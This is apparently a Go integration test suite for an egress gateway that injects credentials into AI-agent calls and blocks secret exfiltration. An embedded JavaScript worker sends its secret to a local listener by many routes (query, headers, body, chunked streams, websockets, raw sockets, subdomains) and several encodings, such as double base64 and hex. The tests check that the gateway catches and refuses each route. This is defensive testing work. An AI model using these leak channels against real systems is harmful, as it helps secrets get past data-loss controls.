package integration

import (
	"bytes"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/coder/websocket"
)

// credentialsAgent calls what it is told to, with its secret where it is told to put it.
const credentialsAgent = `
import { connect } from "cloudflare:sockets";
const encodings = {
	plain: s => s, base64: s => btoa(s), twice: s => btoa("x" + btoa(s)), url: s => encodeURIComponent(s),
	hex: s => [...s].map(c => c.charCodeAt(0).toString(16).padStart(2, "0")).join(""),
};
export default { async fetch(request, env) {
	const { searchParams: q } = new URL(request.url);
	const text = encodings[q.get("as") ?? "plain"](env.KEY), to = q.get("to");
	try {
		switch (q.get("in")) {
		case "query": return await fetch(to + "/?q=" + encodeURIComponent(text));
		case "path": return await fetch(to + "/" + encodeURIComponent(text));
		case "header": return await fetch(to, { headers: { "X-Note": text } });
		case "name": return await fetch(to, { headers: { ["x-" + text]: "1" } });
		case "body": return await fetch(to, { method: "POST", body: JSON.stringify({ note: text }) });
		case "form": { const f = new FormData(); f.set("note", new Blob([text])); return await fetch(to, { method: "POST", body: f }); }
		case "chunks": {
			const { readable, writable } = new TransformStream();
			const w = writable.getWriter();
			const sent = (async () => { for (const c of "so: " + text + ".") await w.write(new TextEncoder().encode(c)); await w.close(); })();
			const resp = await fetch(to, { method: "POST", body: readable });
			await sent;
			return resp;
		}
		case "socket": {
			const resp = await fetch(to, { headers: { Upgrade: "websocket" } }), ws = resp.webSocket;
			ws.accept();
			const closed = new Promise(done => { ws.addEventListener("close", e => done("closed " + e.code + " " + e.reason)); ws.addEventListener("message", e => done("answer " + e.data)); });
			for (let i = 0; i < text.length; i += 9) ws.send(text.slice(i, i + 9));
			ws.send("end");
			return new Response(await closed);
		}
		case "connect": {
			const socket = connect(to), w = socket.writable.getWriter();
			socket.closed.catch(() => {});
			for (let i = 0; i < text.length; i += 9) await w.write(new TextEncoder().encode(text.slice(i, i + 9)));
			await w.close();
			return new Response(await new Response(socket.readable).text());
		}
		case "subdomain": return await fetch("http://" + text.slice(0, 40) + "." + text.slice(40) + ".localhost:" + new URL(to).port);
		}
		const resp = await fetch(to, { headers: { Authorization: "Bearer mine", "X-Api-Key": "mine" } });
		return new Response(JSON.stringify({ url: resp.url, headers: [...resp.headers], body: await resp.text() }));
	} catch (e) { return new Response(e.name + ": " + e.code + ": " + e.message, { status: 599 }); }
} }`

const (
	credentialsKey = "sk-live-Abc123/XYZ+789-of-the-agent"
	credentialsCRM = "crm-Password-0987654321"
)

// listener is a server that keeps all that reaches it.
type listener struct {
	*outside
	mu  sync.Mutex
	got bytes.Buffer
}

func newListener(t *testing.T) *listener {
	l := new(listener)
	l.outside = newOutside(t, func(w http.ResponseWriter, r *http.Request) {
		if strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
			conn, err := websocket.Accept(w, r, nil)
			if err != nil {
				return
			}
			defer conn.CloseNow()
			for {
				_, b, err := conn.Read(r.Context())
				if err != nil {
					return
				}
				l.keep(b)
				if string(b) == "end" {
					_ = conn.Write(r.Context(), websocket.MessageText, []byte("got it"))
				}
			}
		}
		b, _ := io.ReadAll(r.Body)
		l.keep([]byte(fmt.Sprint(r.Method, r.Host, r.URL, r.Header)))
		l.keep(b)
		w.Header().Set("X-Seen", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "%s %s %s", r.Header.Get("Authorization"), r.Header.Get("X-Api-Key"), r.URL.RawQuery)
	})
	return l
}

func (l *listener) keep(b []byte) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.got.Write(b)
}

func (l *listener) text() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.got.String()
}

func newCredentials(t *testing.T, options string, l, bound *listener) *server {
	s := newServer(t, map[string]string{
		"Caddyfile": site(fmt.Sprintf(`egress out {
	allow 127.0.0.1:%d
	allow *.localhost
	allow localhost:%d {
		inject Authorization "Bearer {secret.crm}"
		inject query key {secret.crm}
		inject_over_http
		secrets key
	}
	allow_ip 127.0.0.1 ::1
	%s
}
agent caller {
	main ./caller.ts
	secret KEY key
	egress out
}`, l.port(), bound.port(), options), "log\nagent caller"),
		"caller.ts": credentialsAgent,
	})
	s.must(credentialsKey, "gatehouse", "secret", "put", "key")
	s.must(credentialsCRM, "gatehouse", "secret", "put", "crm")
	s.start()
	return s
}

// TestCredentialsAreInjected lets the code call with a credential that it never sees, and looks for it in all that was written.
func TestCredentialsAreInjected(t *testing.T) {
	t.Parallel()
	l, bound := newListener(t), newListener(t)
	s := newCredentials(t, "dlp secrets", l, bound)
	answer := s.get("/inject?to="+url.QueryEscape(fmt.Sprintf("http://localhost:%d/?a=1&key=mine", bound.port())), 200)
	mustContain(t, "what the server got", bound.text(), "Bearer "+credentialsCRM, "a=1&key="+credentialsCRM)
	mustContain(t, "what the code sees", answer, "Bearer [redacted:crm]", `a=1&key=[redacted:crm]`, fmt.Sprintf(`"url":"http://localhost:%d/?a=1&key=mine"`, bound.port()))
	rec := s.waitFull("the record", ofPath("/inject"))
	if len(rec.Calls) != 1 || !slices.Equal(rec.Calls[0].Injected, []string{"secret.crm"}) {
		t.Errorf("calls: %+v", rec.Calls)
	}
	// Where the secret was taken away, nothing is sent without it.
	s.must("", "gatehouse", "secret", "delete", "crm")
	sent := bound.text()
	mustContain(t, "without the secret", s.get("/gone?to="+url.QueryEscape(fmt.Sprintf("http://localhost:%d/", bound.port())), 599), "there is no secret crm", "(rule: inject)")
	want(t, "what was sent then", bound.text(), sent)
	stdout, stderr, err := s.command("", "validate", "--config", "Caddyfile")
	if err == nil {
		t.Error("a policy with a secret that is not there is valid")
	}
	mustContain(t, "the refusal", stdout+stderr, "there is no secret crm", "caddy gatehouse secret put crm", "Caddyfile:")
	s.stop()
	s.nowhere(credentialsCRM, answer)
}

// nowhere looks for a value in all that the server wrote, and in what was seen of it.
func (s *server) nowhere(value string, seen ...string) {
	s.t.Helper()
	places := map[string][]byte{"what was seen": []byte(strings.Join(seen, "\n")), "the server's log": []byte(s.logged())}
	err := filepath.WalkDir(s.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		places[strings.TrimPrefix(path, s.dir)], err = os.ReadFile(path)
		return err
	})
	if err != nil {
		s.t.Fatal(err)
	}
	for name, content := range places {
		for form, b := range forms(value) {
			if bytes.Contains(content, b) {
				s.t.Errorf("%s holds the secret (%s)", name, form)
			}
		}
	}
}

// TestExfiltration has code that holds a secret send it to a host that it is not bound to, in every way and spelling.
func TestExfiltration(t *testing.T) {
	t.Parallel()
	l, bound := newListener(t), newListener(t)
	s := newCredentials(t, "dlp secrets", l, bound)
	var seen []string
	n := 0
	for _, in := range []string{"query", "path", "header", "name", "body", "form", "chunks", "socket", "connect", "subdomain"} {
		for _, as := range []string{"plain", "base64", "twice", "url", "hex"} {
			if in == "name" && as != "hex" || in == "subdomain" && as != "hex" {
				continue // they would be no names
			}
			to := "http://" + l.host()
			if in == "connect" {
				to = l.host()
			}
			n++
			path := fmt.Sprintf("/try%d", n)
			resp, body := s.do("GET", fmt.Sprintf("%s?in=%s&as=%s&to=%s", path, in, as, url.QueryEscape(to)), "")
			seen = append(seen, body)
			what := in + " as " + as
			rec := s.waitFull("the record of "+what, ofPath(path))
			found := ""
			for _, c := range rec.Calls {
				found += strings.Join(c.Found, ", ")
			}
			if !strings.Contains(found, "the secret key in the ") {
				t.Errorf("%s: %d %s, and the record has %+v", what, resp.StatusCode, body, rec.Calls)
			}
			switch in {
			case "socket":
				want(t, what, body, "closed 1008 egress: the message may not leave")
			default:
				mustContain(t, what, body, "EGRESS_DENIED", "(rule: dlp)")
			}
			if len(rec.Calls) != 1 || rec.Calls[0].Decision != "refuse" || rec.Calls[0].Rule != "dlp" {
				t.Errorf("%s: calls %+v", what, rec.Calls)
			}
		}
	}
	got := l.text()
	for form, b := range forms(credentialsKey) {
		if strings.Contains(got, string(b)) {
			t.Errorf("the key has left (%s)", form)
		}
	}
	// To the host that it is bound to, it may go.
	mustContain(t, "to its own host", s.get("/own?in=body&to="+url.QueryEscape(fmt.Sprintf("http://localhost:%d", bound.port())), 200), "Bearer")
	mustContain(t, "what it got", bound.text(), credentialsKey)
	s.stop()
	s.nowhere(credentialsKey, seen...)
}

// TestExfiltrationIsReported sends what is found where the policy only reports, and masks where it masks.
func TestExfiltrationIsReported(t *testing.T) {
	t.Parallel()
	for action, reaches := range map[string]bool{"dlp secrets report": true, "dlp secrets\n\tmode report": true, "dlp secrets mask": false} {
		l, bound := newListener(t), newListener(t)
		s := newCredentials(t, action, l, bound)
		s.get("/body?in=body&to="+url.QueryEscape("http://"+l.host()), 200)
		s.get("/chunks?in=chunks&to="+url.QueryEscape("http://"+l.host()), 200)
		if got := strings.Count(l.text(), credentialsKey); (got == 2) != reaches {
			t.Errorf("%s: the key reached the server %d times", action, got)
		}
		if !reaches {
			mustContain(t, "what the server got", l.text(), `{"note":"[redacted:key]"}`, "so: [redacted:key].")
		}
		rec := s.waitFull("the record", ofPath("/body"))
		if len(rec.Calls) != 1 || !slices.Equal(rec.Calls[0].Found, []string{"the secret key in the body"}) {
			t.Errorf("%s: calls %+v", action, rec.Calls)
		}
		if want := map[bool]string{true: "report", false: "allow"}[strings.Contains(action, "mode")]; rec.Calls[0].Decision != want {
			t.Errorf("%s: decision %s, want %s", action, rec.Calls[0].Decision, want)
		}
		s.stop()
	}
}
